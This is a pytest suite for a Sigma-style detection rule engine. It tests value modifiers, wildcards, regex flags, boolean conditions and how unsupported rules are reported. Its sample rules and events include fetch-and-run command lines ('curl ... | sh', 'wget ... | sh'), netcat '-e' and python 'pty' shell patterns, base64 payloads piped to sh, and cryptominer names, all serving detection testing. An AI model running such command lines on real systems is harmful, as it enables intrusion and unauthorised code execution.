"""Every modifier and value form, as (rule YAML, event, expected match) tables.

Each case runs through the engine with and without the prefilter; both must agree with the table.
"""

from __future__ import annotations

import textwrap
from typing import Any

import pytest

from watchkeeper.detect import Engine
from watchkeeper.events import DnsEvent, Event, FileEvent, NetworkEvent, ProcessEvent
from watchkeeper.rules import RuleSet, parse_rules

CLASSES: dict[str, type[Any]] = {
    "process_creation": ProcessEvent,
    "network_connection": NetworkEvent,
    "dns": DnsEvent,
    "file_event": FileEvent,
}


def rule_yaml(detection: str, category: str = "process_creation", extra: str = "") -> str:
    body = textwrap.indent(textwrap.dedent(detection).strip(), "    ")
    return (
        f"title: Test rule\nid: test-rule\nstatus: test\nlevel: high\n{extra}"
        f"logsource:\n    product: linux\n    category: {category}\n"
        f"detection:\n{body}\n"
    )


def load(detection: str, category: str = "process_creation") -> RuleSet:
    return parse_rules(rule_yaml(detection, category), path="inline.yml")


def matches(detection: str, event: Event) -> bool:
    ruleset = load(detection, event.category)
    assert not ruleset.issues, [str(i) for i in ruleset.issues]
    fast = bool(Engine(ruleset).match(event))
    slow = bool(Engine(ruleset, prefilter=False).match(event))
    assert fast == slow, "prefilter changed the result"
    return fast


def proc(**kw: Any) -> ProcessEvent:
    return ProcessEvent(**kw)


def net(**kw: Any) -> NetworkEvent:
    return NetworkEvent(**kw)


CASES: list[tuple[str, str, Event, bool]] = [
    # --- plain values, wildcards, escapes
    ("eq case-insensitive", "sel:\n  Image: '/usr/bin/XMRIG'\ncondition: sel",
     proc(image="/usr/bin/xmrig"), True),
    ("eq whole value only", "sel:\n  Image: 'xmrig'\ncondition: sel",
     proc(image="/usr/bin/xmrig"), False),
    ("star inside", "sel:\n  CommandLine: 'curl * | sh'\ncondition: sel",
     proc(command_line="curl http://x/a | sh"), True),
    ("star inside, no", "sel:\n  CommandLine: 'curl * | sh'\ncondition: sel",
     proc(command_line="curl http://x/a | bash"), False),
    ("several stars", "sel:\n  CommandLine: '*wget * - http* | perl*'\ncondition: sel",
     proc(command_line="x; wget -q - http://h/p | perl -e"), True),
    ("question mark", "sel:\n  Image: '/bin/?ash'\ncondition: sel", proc(image="/bin/bash"), True),
    ("question mark needs one char", "sel:\n  Image: '/bin/?ash'\ncondition: sel",
     proc(image="/bin/ash"), False),
    ("question marks only", "sel:\n  User: 'r??t'\ncondition: sel", proc(user="ROOT"), True),
    ("escaped star is literal", "sel:\n  CommandLine: 'echo \\*'\ncondition: sel",
     proc(command_line="echo *"), True),
    ("escaped star, no", "sel:\n  CommandLine: 'echo \\*'\ncondition: sel",
     proc(command_line="echo hi"), False),
    ("escaped question mark", "sel:\n  CommandLine|endswith: 'why\\?'\ncondition: sel",
     proc(command_line="echo why?"), True),
    ("escaped backslash then star", "sel:\n  CommandLine: 'a\\\\*'\ncondition: sel",
     proc(command_line="a\\bc"), True),
    ("lone star needs a value", "sel:\n  ParentImage: '*'\ncondition: sel",
     proc(parent_image=""), False),
    ("lone star", "sel:\n  ParentImage: '*'\ncondition: sel", proc(parent_image="/bin/sh"), True),
    ("list is OR", "sel:\n  Image|endswith:\n    - /nc\n    - /ncat\ncondition: sel",
     proc(image="/usr/bin/ncat"), True),
    ("map is AND", "sel:\n  Image|endswith: /nc\n  CommandLine|contains: ' -e '\ncondition: sel",
     proc(image="/usr/bin/nc", command_line="nc -l 80"), False),
    # --- position modifiers
    ("contains", "sel:\n  CommandLine|contains: 'Donate-Level'\ncondition: sel",
     proc(command_line="xmrig --donate-level=1"), True),
    ("contains, no", "sel:\n  CommandLine|contains: 'donate'\ncondition: sel",
     proc(command_line="xmrig"), False),
    ("contains with inner wildcard", "sel:\n  CommandLine|contains: 'a*c'\ncondition: sel",
     proc(command_line="xx abbbc yy"), True),
    ("startswith", "sel:\n  CommandLine|startswith: 'sudo '\ncondition: sel",
     proc(command_line="sudo -i"), True),
    ("startswith, no", "sel:\n  CommandLine|startswith: 'sudo '\ncondition: sel",
     proc(command_line="echo sudo "), False),
    ("endswith", "sel:\n  Image|endswith: '/BASH'\ncondition: sel", proc(image="/usr/bin/bash"), True),
    ("endswith, no", "sel:\n  Image|endswith: '/bash'\ncondition: sel",
     proc(image="/usr/bin/bash5"), False),
    ("contains|all", "sel:\n  CommandLine|contains|all: ['-c', 'import', 'pty']\ncondition: sel",
     proc(command_line="python -c 'import pty'"), True),
    ("contains|all, one missing",
     "sel:\n  CommandLine|contains|all: ['-c', 'import', 'socket']\ncondition: sel",
     proc(command_line="python -c 'import pty'"), False),
    ("endswith|all", "sel:\n  Image|endswith|all: ['sh', 'ash']\ncondition: sel",
     proc(image="/bin/bash"), True),
    # --- regular expressions
    ("re is case-sensitive", "sel:\n  CommandLine|re: '\\s-O\\s'\ncondition: sel",
     proc(command_line="wget -o x"), False),
    ("re", "sel:\n  CommandLine|re: '\\s-O\\s'\ncondition: sel", proc(command_line="wget -O x"), True),
    ("re is a search", "sel:\n  CommandLine|re: 'b+c'\ncondition: sel", proc(command_line="abbbcd"), True),
    ("re|i", "sel:\n  CommandLine|re|i: '\\s-O\\s'\ncondition: sel",
     proc(command_line="wget -o x"), True),
    ("re|m", "sel:\n  CommandLine|re|m: '^two$'\ncondition: sel",
     proc(command_line="one\ntwo\nthree"), True),
    ("re without m", "sel:\n  CommandLine|re: '^two$'\ncondition: sel",
     proc(command_line="one\ntwo\nthree"), False),
    ("re|s", "sel:\n  CommandLine|re|s: 'a.b'\ncondition: sel", proc(command_line="a\nb"), True),
    ("re lookahead (simple: Python engine)", "sel:\n  CommandLine|re: 'x(?!y)'\ncondition: sel",
     proc(command_line="xy xz"), True),
    ("re without s", "sel:\n  CommandLine|re: 'a.b'\ncondition: sel", proc(command_line="a\nb"), False),
    # --- cased
    ("cased", "sel:\n  CommandLine|contains|cased: 'Foo'\ncondition: sel",
     proc(command_line="x Foo y"), True),
    ("cased, no", "sel:\n  CommandLine|contains|cased: 'Foo'\ncondition: sel",
     proc(command_line="x foo y"), False),
    ("cased eq", "sel:\n  User|cased: 'Root'\ncondition: sel", proc(user="root"), False),
    # --- encodings
    ("base64|contains", "sel:\n  CommandLine|base64|contains: 'hello'\ncondition: sel",
     proc(command_line="echo aGVsbG8= | base64 -d"), True),
    ("base64offset|contains offset 0",
     "sel:\n  CommandLine|base64offset|contains: '--donate-level='\ncondition: sel",
     proc(command_line="echo LS1kb25hdGUtbGV2ZWw9MQ== | base64 -d | sh"), True),
    ("base64offset|contains offset 1",
     "sel:\n  CommandLine|base64offset|contains: '--donate-level='\ncondition: sel",
     proc(command_line="echo eCAtLWRvbmF0ZS1sZXZlbD0x | base64 -d"), True),
    ("base64offset|contains, no",
     "sel:\n  CommandLine|base64offset|contains: '--donate-level='\ncondition: sel",
     proc(command_line="echo aGVsbG8= | base64 -d"), False),
    ("windash slash", "sel:\n  CommandLine|windash|contains: ' -enc '\ncondition: sel",
     proc(command_line="pwsh /enc AAA"), True),
    ("windash en dash", "sel:\n  CommandLine|windash|contains: ' -enc '\ncondition: sel",
     proc(command_line="pwsh \u2013enc AAA"), True),
    ("windash|all keeps variants OR-ed",
     "sel:\n  CommandLine|windash|contains|all: [' -a ', ' -b ']\ncondition: sel",
     proc(command_line="x /a -b y"), True),
    # --- types: cidr, numbers, exists, fieldref, null
    ("cidr", "sel:\n  DestinationIp|cidr: '10.0.0.0/8'\ncondition: sel", net(dst_ip="10.1.2.3"), True),
    ("cidr, no", "sel:\n  DestinationIp|cidr: '10.0.0.0/8'\ncondition: sel", net(dst_ip="11.0.0.1"), False),
    ("cidr ipv6", "sel:\n  DestinationIp|cidr: 'fc00::/7'\ncondition: sel", net(dst_ip="fd00::1"), True),
    ("cidr v4-mapped", "sel:\n  DestinationIp|cidr: '127.0.0.0/8'\ncondition: sel",
     net(dst_ip="::ffff:127.0.0.1"), True),
    ("cidr not an address", "sel:\n  DestinationIp|cidr: '0.0.0.0/0'\ncondition: sel",
     net(dst_ip="example"), False),
    ("gt", "sel:\n  DestinationPort|gt: 1024\ncondition: sel", net(dst_port=4444), True),
    ("gt, no", "sel:\n  DestinationPort|gt: 1024\ncondition: sel", net(dst_port=80), False),
    ("gte", "sel:\n  DestinationPort|gte: 80\ncondition: sel", net(dst_port=80), True),
    ("lt", "sel:\n  DestinationPort|lt: 80\ncondition: sel", net(dst_port=80), False),
    ("lte", "sel:\n  DestinationPort|lte: 80\ncondition: sel", net(dst_port=80), True),
    ("lt absent", "sel:\n  DestinationPort|lt: 80\ncondition: sel", net(dst_port=None), False),
    ("exists true", "sel:\n  ParentImage|exists: true\ncondition: sel", proc(parent_image="/x"), True),
    ("exists true, absent", "sel:\n  ParentImage|exists: true\ncondition: sel", proc(), False),
    ("exists false", "sel:\n  ParentImage|exists: false\ncondition: sel", proc(), True),
    ("fieldref", "sel:\n  ParentImage|fieldref: Image\ncondition: sel",
     proc(image="/bin/sh", parent_image="/BIN/SH"), True),
    ("fieldref, no", "sel:\n  ParentImage|fieldref: Image\ncondition: sel",
     proc(image="/bin/sh", parent_image="/bin/bash"), False),
    ("fieldref|endswith", "sel:\n  ParentCommandLine|fieldref|endswith: CommandLine\ncondition: sel",
     proc(command_line="ls", parent_command_line="bash -c ls"), True),
    ("null", "sel:\n  ParentImage: null\ncondition: sel", proc(), True),
    ("null, present", "sel:\n  ParentImage: null\ncondition: sel", proc(parent_image="/x"), False),
    ("empty string is absent", "sel:\n  ParentImage: ''\ncondition: sel", proc(), True),
    ("null in a list", "sel:\n  ParentImage: [null, '/bin/x']\ncondition: sel",
     proc(parent_image="/bin/x"), True),
    ("number", "sel:\n  ProcessId: 42\ncondition: sel", proc(pid=42), True),
    ("number, no", "sel:\n  ProcessId: 42\ncondition: sel", proc(pid=420), False),
    ("boolean", "sel:\n  Initiated: true\ncondition: sel", net(initiated=True), True),
    ("boolean, no", "sel:\n  Initiated: 'true'\ncondition: sel", net(initiated=False), False),
    ("derived OriginalFileName", "sel:\n  OriginalFileName: xmrig\ncondition: sel",
     proc(image="/tmp/.x/xmrig"), True),
    # --- keywords and lists of maps
    ("keywords search every field", "keywords:\n  - xmrig\n  - minerd\ncondition: keywords",
     proc(image="/opt/MINERD"), True),
    ("keywords, no", "keywords:\n  - xmrig\ncondition: keywords", proc(image="/bin/ls"), False),
    ("keyword with wildcard", "keywords:\n  - 'wget * | sh'\ncondition: keywords",
     proc(command_line="cd /tmp; wget http://h/x | sh; ls"), True),
    ("keyword with modifier key", "sel:\n  '|re': 'x[0-9]+y'\ncondition: sel",
     proc(command_line="ax123yb"), True),
    ("list of maps is OR",
     "sel:\n  - Image|endswith: /curl\n  - Image|endswith: /wget\ncondition: sel",
     proc(image="/usr/bin/wget"), True),
    ("list of maps, each AND",
     "sel:\n  - Image|endswith: /curl\n    CommandLine|contains: ' -T '\ncondition: sel",
     proc(image="/usr/bin/curl", command_line="curl -s x"), False),
    # --- other categories
    ("dns", "sel:\n  QueryName|endswith: '.pool.example'\ncondition: sel",
     DnsEvent(query_name="eu.POOL.example"), True),
    ("dns answers", "sel:\n  QueryResults|contains: '10.9.9.9'\ncondition: sel",
     DnsEvent(query_name="x", answers=("10.1.1.1", "10.9.9.9")), True),
    ("file_event", "sel:\n  TargetFilename|startswith: '/etc/cron.d/'\ncondition: sel",
     FileEvent(path="/etc/cron.d/job"), True),
    ("file activity extension", "sel:\n  Activity: delete\ncondition: sel",
     FileEvent(path="/x", activity="delete"), True),
    ("network extension field", "sel:\n  AppProtocol: stratum\ncondition: sel",
     net(app_protocol="stratum"), True),
]


@pytest.mark.parametrize(
    ("detection", "event", "expected"),
    [pytest.param(d, e, x, id=name) for name, d, e, x in CASES],
)
def test_modifiers_and_values(detection: str, event: Event, expected: bool) -> None:
    assert matches(detection, event) is expected


SELS = "a:\n  CommandLine|contains: alpha\nb:\n  CommandLine|contains: beta\nc:\n  CommandLine|contains: gamma\n"

CONDITIONS: list[tuple[str, str, bool]] = [
    ("a and b", "alpha beta", True),
    ("a and b", "alpha", False),
    ("a or b", "beta", True),
    ("a or b", "gamma", False),
    ("not a", "beta", True),
    ("not a", "alpha", False),
    ("a and not b", "alpha", True),
    ("a and not b", "alpha beta", False),
    ("(a or b) and not c", "beta", True),
    ("(a or b) and not c", "beta gamma", False),
    ("a or b and c", "alpha", True),  # and binds tighter
    ("a or b and c", "beta", False),
    ("not a and b", "beta", True),  # not binds tighter
    ("not (a and b)", "alpha beta", False),
    ("not not a", "alpha", True),
    ("1 of them", "gamma", True),
    ("all of them", "alpha beta", False),
    ("all of them", "alpha beta gamma", True),
    ("A AND B", "alpha beta", True),  # keywords are case-insensitive
]


@pytest.mark.parametrize(("condition", "cmd", "expected"), CONDITIONS)
def test_conditions(condition: str, cmd: str, expected: bool) -> None:
    detection = SELS.replace("a:", "A:").replace("b:", "B:") if "A" in condition else SELS
    assert matches(f"{detection}condition: {condition}", proc(command_line=cmd)) is expected


QUANTIFIED = (
    "selection_img:\n  Image|endswith: /nc\nselection_cli:\n  CommandLine|contains: ' -e '\n"
    "filter_main:\n  CommandLine|contains: ' -l '\n"
)


@pytest.mark.parametrize(
    ("condition", "image", "cmd", "expected"),
    [
        ("1 of selection_*", "/bin/ls", "x -e y", True),
        ("all of selection_*", "/bin/nc", "nc -e sh", True),
        ("all of selection_*", "/bin/nc", "nc -v", False),
        ("all of selection* and not 1 of filter_*", "/bin/nc", "nc -e sh", True),
        ("all of selection* and not 1 of filter_*", "/bin/nc", "nc -l -e sh", False),
        ("1 of sel*_img", "/bin/nc", "", True),
    ],
)
def test_quantifiers(condition: str, image: str, cmd: str, expected: bool) -> None:
    event = proc(image=image, command_line=cmd)
    assert matches(f"{QUANTIFIED}condition: {condition}", event) is expected


def test_condition_list_is_or() -> None:
    detection = f"{SELS}condition:\n  - a and b\n  - c"
    assert matches(detection, proc(command_line="gamma"))
    assert not matches(detection, proc(command_line="alpha"))


UNSUPPORTED: list[tuple[str, str, str]] = [
    ("sel:\n  CommandLine|utf16le|base64: x\ncondition: sel", "modifier", "utf16le"),
    ("sel:\n  CommandLine|wide: x\ncondition: sel", "modifier", "wide"),
    ("sel:\n  CommandLine|bogus: x\ncondition: sel", "modifier", "unknown modifier 'bogus'"),
    ("sel:\n  CommandLine|expand: '%x%'\ncondition: sel", "modifier", "expand"),
    ("sel:\n  CommandLine|contains|startswith: x\ncondition: sel", "modifier", "conflicting"),
    ("sel:\n  CommandLine|i: x\ncondition: sel", "modifier", "only applies to re"),
    ("sel:\n  CommandLine|re|contains: x\ncondition: sel", "modifier", "cannot be combined"),
    ("sel:\n  CommandLine|re: '(?<=x)a+'\ncondition: sel", "value", "cannot run in bounded time"),
    ("sel:\n  CommandLine|re: '(unclosed'\ncondition: sel", "value", "invalid regular expression"),
    ("sel:\n  DestinationIp|cidr: 'nonsense'\ncondition: sel", "value", "invalid CIDR"),
    ("sel:\n  ProcessId|gt: many\ncondition: sel", "value", "needs a number"),
    ("sel:\n  ParentImage|exists: maybe\ncondition: sel", "value", "true or false"),
    ("sel:\n  CommandLine|base64: 'a*'\ncondition: sel", "value", "wildcards"),
    ("sel:\n  CommandLine: []\ncondition: sel", "value", "empty list"),
    ("sel:\n  CommandLine:\n    x: y\ncondition: sel", "value", "mapping"),
    ("sel:\n  CommandLine: x\ncondition: sel | count() > 5", "aggregation", "aggregation"),
    ("sel:\n  CommandLine: x\nsel2:\n  Image: y\ncondition: sel near sel2", "aggregation", "near"),
    ("sel:\n  CommandLine: x\ncondition: sel and other", "condition", "undefined selection 'other'"),
    ("sel:\n  CommandLine: x\ncondition: 2 of sel*", "condition", "'2 of' is not supported"),
    ("sel:\n  CommandLine: x\ncondition: 1 of nothing*", "condition", "matches no selection"),
    ("sel:\n  CommandLine: x\ncondition: (sel", "condition", "condition ends too early"),
    ("sel:\n  CommandLine: x\ncondition: sel)", "condition", "unexpected ')'"),
    ("sel:\n  CommandLine: x\ncondition: sel and", "condition", "ends too early"),
    ("sel:\n  CommandLine: x\ncondition: ''", "condition", "empty condition"),
    ("sel:\n  CommandLine: x", "detection", "no condition"),
    ("sel:\n  LogonId: 0\ncondition: sel", "field", "field LogonId not available for category process_creation"),
    ("sel:\n  Image: x\nf:\n  LogonId: 0\ncondition: sel or not f", "field", "match on its absence"),
    ("f:\n  LogonId: 0\ncondition: not f", "field", "match on its absence"),
    ("sel:\n  Image|fieldref: LogonId\ncondition: sel", "field", "LogonId"),
    ("sel: 12\nsel2: true\ncondition: sel", "detection", "neither a map nor a list"),
]


@pytest.mark.parametrize(("detection", "kind", "reason"), UNSUPPORTED)
def test_unsupported_become_issues(detection: str, kind: str, reason: str) -> None:
    ruleset = load(detection)
    assert ruleset.rules == ()
    assert ruleset.issues, "expected an issue"
    issue = ruleset.issues[0]
    assert reason in issue.reason
    assert issue.kind == kind
    assert issue.rule_id == "test-rule" and issue.title == "Test rule"
    assert issue.line is not None and issue.line >= 1


def test_deep_condition_is_refused_not_crashing() -> None:
    condition = "(" * 500 + "sel" + ")" * 500
    ruleset = load(f"sel:\n  Image: x\ncondition: '{condition}'")
    assert ruleset.issues and "deeper" in ruleset.issues[0].reason


def test_issue_points_at_the_offending_field_line() -> None:
    text = rule_yaml("sel:\n  Image: x\n  CommandLine|bogus: y\ncondition: sel")
    ruleset = parse_rules(text, path="r.yml")
    (issue,) = ruleset.issues
    line = text.splitlines()[issue.line - 1] if issue.line else ""
    assert "CommandLine|bogus" in line


def test_all_problems_of_a_rule_are_reported() -> None:
    ruleset = load("sel:\n  CommandLine|bogus: x\n  Image|wide: y\n  LogonId: 0\ncondition: sel")
    reasons = " / ".join(i.reason for i in ruleset.issues)
    assert "bogus" in reasons and "wide" in reasons and "LogonId" in reasons
    assert ruleset.unsupported == 1


def test_unavailable_field_under_not_reads_as_absent() -> None:
    detection = "sel:\n  Image|endswith: /sh\nfilter:\n  LogonId: 0\ncondition: sel and not filter"
    ruleset = load(detection)
    assert not ruleset.issues
    assert matches(detection, proc(image="/bin/sh"))
    # a null test on the unavailable field is true (absent), so the filter suppresses the rule
    detection = "sel:\n  Image|endswith: /sh\nfilter:\n  LogonId: null\ncondition: sel and not filter"
    assert not matches(detection, proc(image="/bin/sh"))


def test_category_alias_dns_query() -> None:
    ruleset = load("sel:\n  QueryName: x.example\ncondition: sel", category="dns_query")
    assert not ruleset.issues
    assert ruleset.rules[0].category == "dns"
    assert ruleset.rules[0].logsource.category == "dns_query"


RE2_CASES: list[tuple[str, str, bool]] = [
    ("(a+)+b", "aaab", True),
    ("a.*b", "xxaxxbxx", True),
    ("a.*b", "bbba", False),
    ("(?i)X+Y", "xxy", True),
    ("(.){20,}", "short", False),
]


@pytest.mark.parametrize(("pattern", "cmd", "expected"), RE2_CASES)
def test_unbounded_regexes_run_on_re2(pattern: str, cmd: str, expected: bool) -> None:
    pytest.importorskip("re2", reason="the linear-time regex engine (google-re2) is not installed")
    assert matches(f"sel:\n  CommandLine|re: '{pattern}'\ncondition: sel", proc(command_line=cmd)) is expected


@pytest.mark.parametrize(("flag", "cmd"), [("i", "A.*b"), ("m", "^b.*c$"), ("s", "a.+b")])
def test_re2_flags(flag: str, cmd: str) -> None:
    pytest.importorskip("re2", reason="the linear-time regex engine (google-re2) is not installed")
    text = {"i": "xxAyyB", "m": "a\nbxc\nd", "s": "a\n\nb"}[flag]
    assert matches(f"sel:\n  CommandLine|re|{flag}: '{cmd}'\ncondition: sel", proc(command_line=text))
    assert not matches(f"sel:\n  CommandLine|re: '{cmd}'\ncondition: sel", proc(command_line=text))
